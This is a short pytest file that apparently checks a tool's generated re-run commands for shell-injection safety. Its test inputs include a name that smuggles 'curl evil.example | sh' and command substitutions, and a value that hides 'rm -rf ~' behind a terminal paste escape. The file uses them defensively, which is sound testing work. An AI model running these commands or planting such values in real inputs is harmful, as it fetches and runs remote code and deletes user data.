"""Commands that measure again are made from recipes, and can be pasted."""

from __future__ import annotations

import shlex

import pytest

from playground.evaluate.sweep.commands import command_of, joined
from tests.support.compare_results import result


def test_the_command_of_a_file_is_not_told() -> None:
    assert command_of(result(sampler="ab2", steps=8)).startswith("playground compare fashion-flow --")


def test_words_of_others_are_one_word_each() -> None:
    name = "a; curl evil.example | sh #'$(id)`id`"
    assert shlex.split(command_of(result(model=name, steps=8)))[:3] == ["playground", "compare", name]


@pytest.mark.parametrize("name", ["--data=/", "-x", "a\x1b[201~\nrm -rf ~\n", "a\u202eb", "a\nb"])
def test_there_is_no_command_for_what_cannot_be_pasted(name: str) -> None:
    assert joined("compare", name) == command_of(result(model=name, steps=8)) == ""
